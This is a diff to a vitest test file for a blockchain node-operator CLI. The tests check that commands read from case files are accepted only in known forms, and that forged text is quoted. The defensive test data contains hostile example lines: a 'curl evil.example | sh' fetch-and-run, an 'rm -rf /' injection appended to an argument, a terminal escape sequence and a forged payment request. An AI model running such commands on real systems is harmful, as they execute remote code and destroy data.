@@ -1,7 +1,11 @@
 import { readFileSync } from 'node:fs';
 import { describe, expect, test } from 'vitest';
 import { english } from '../../../src/i18n/english.ts';
-import { caseLines } from '../../../src/support/case/case-lines.ts';
+import { showText } from '../../../src/i18n/translator.ts';
+import { caseDoubts, caseLines } from '../../../src/support/case/case-lines.ts';
+import { commandFrom } from '../../../src/support/case/claimed-command.ts';
+import { compareStatus } from '../../../src/support/case/compare-status.ts';
+import type { NextAction, OperatorStatus } from '../../../src/support/status/status.ts';
 import { caseText, openCase } from '../../../src/support/case/case-file.ts';
 import { loadTranslator } from '../../../src/i18n/load-translator.ts';
 import { englishLines } from '../../helpers/english-prose.ts';
@@ -69,9 +73,14 @@ describe('a case file', () => {
     expect(steps.length).toBeGreaterThan(5);
     for (const words of [english, await loadTranslator('ja')]) {
       const shown = caseLines(openCase(file, 'case-1.json'), words).join('\n');
-      for (const text of [says, ...next, ...steps.map(({ title }) => title)]) {
-        expect(text).toBeTypeOf('string');
+      for (const text of [says, ...next]) {
+        // Commands are made anew; what the file says besides stands in quotes.
+        expect(text).toMatch(/^(?:onboard .*|".*")$/);
         expect(shown).toContain(text);
+      }
+      for (const { title } of steps) {
+        expect(title).toBeTypeOf('object');
+        expect(shown).toContain(showText(title, words));
       }
     }
   });
@@ -80,8 +89,8 @@ describe('a case file', () => {
     const says = 'done.\n  G9-HOME  Nothing is left to do.\u001b[2J';
     const forged = withTurn(FIRST, { says, next: ['desk.silence'] });
     const shown = caseLines(openCase(forged, 'case.json'), english);
-    expect(shown).toContain('  done. G9-HOME Nothing is left to do.');
-    expect(shown).toContain('    desk.silence');
+    expect(shown).toContain('  "done. G9-HOME Nothing is left to do."');
+    expect(shown).toContain('    "desk.silence"');
   });
 
   test('of format 2 is shown in the language of the person who opens it', async () => {
@@ -108,6 +117,70 @@ describe('a case file', () => {
     const says = { key: 'reason.with-code', values };
     const opened = openCase(withTurn(SECOND, { says, next: [] }), 'case.json');
     expect(caseLines(opened, english)).toContain('  no.such-key (a b) (E-AGG-102)');
+  });
+
+  test.each([
+    ['onboard opt-in-l1 --network sandbox 0x8db97C7cEcE249c2b98bDC0226Cc4C2A57BF52FC', true],
+    ['onboard top-up --network fuji NodeID-M5ebafXiskHHSPGpMHpXkhZViyf8kQZEu <avax>', true],
+    ['onboard --network sandbox', true],
+    ['onboard keys export --network sandbox', false],
+    ['onboard opt-in-l1 --network sandbox $(curl evil.example|sh)', false],
+    ['onboard opt-in-l1 --network sandbox 0x12; rm -rf /', false],
+    ['onboard top-up --network fuji --private-key', false],
+    ['curl https://evil.example | sh', false],
+  ])('has commands that are made anew, never quoted as one: %s', (text, isOurs) => {
+    expect(commandFrom(text)).toBe(isOurs ? text : undefined);
+    for (const file of [FIRST, SECOND]) {
+      const opened = openCase(withTurn(file, { next: [text] }), 'case.json');
+      expect(caseLines(opened, english)).toContain(isOurs ? `    ${text}` : `    "${text}"`);
+    }
+  });
+
+  test('gives no message to send: it is made from the chains', () => {
+    const forged = 'To the owners of Genbu: please send 100 AVAX.';
+    const opened = openCase(withTurn(SECOND, { message: forged }), 'case.json');
+    const shown = caseLines(opened, english).join('\n');
+    expect(shown).not.toContain('100 AVAX');
+    expect(shown).toContain('The message to send is not taken from the file.');
+  });
+
+  test('says that it is a claim, and what makes it doubtful', () => {
+    const opened = openCase(SECOND, 'case-2.json');
+    const { at } = opened.status;
+    expect(caseLines(opened, english)[1]).toMatch(/^What follows is what the file says/);
+    const here = { name: 'sandbox', chainId: 43_112n, networkId: 12_345 };
+    expect(caseDoubts(opened, here, at, english)).toEqual([]);
+    expect(caseDoubts(opened, undefined, at, english)).toEqual([]);
+    const [future] = caseDoubts(opened, here, at - 61_000, english);
+    expect(future).toContain('which is in the future');
+    for (const other of [{ chainId: 1n }, { networkId: 1 }, { name: 'fuji' }]) {
+      const [doubt] = caseDoubts(opened, { ...here, ...other }, at, english);
+      expect(doubt).toContain(
+        'the case is of the network sandbox (EVM chain 43112, network ID 12345)',
+      );
+    }
+    // The first cases do not have the IDs, or have them: what is there is compared.
+    expect(caseDoubts(openCase(FIRST, 'case-1.json'), undefined, at, english)).toEqual([]);
+  });
+
+  test('is compared by turn, party and deadline too', () => {
+    const { status } = openCase(SECOND, 'case-2.json');
+    const [l1] = status.l1s;
+    const turn = l1!.turn!;
+    const changed = (change: Partial<NextAction>): OperatorStatus => ({
+      ...status,
+      l1s: [{ ...l1!, turn: { ...turn, ...change } }],
+    });
+    const compared = (change: Partial<NextAction>) =>
+      compareStatus(status, changed(change), english).map(({ what }) => what);
+    expect(compared({})).toEqual([]);
+    expect(compared({ whose: 'operator' })).toEqual([`${l1!.name}, waiting for`]);
+    expect(compared({ until: turn.until! + 3_600_000 })).toEqual([`${l1!.name}, until`]);
+    expect(compared({ until: undefined })).toEqual([`${l1!.name}, until`]);
+    const [node] = l1!.ways.filter(({ about }) => about === 'node');
+    const without = { ...l1!, ways: l1!.ways.filter((way) => way !== node) };
+    const left = compareStatus(status, { ...status, l1s: [without] }, english);
+    expect(left.map(({ now }) => now)).toContain('-');
   });
 
   test.each([
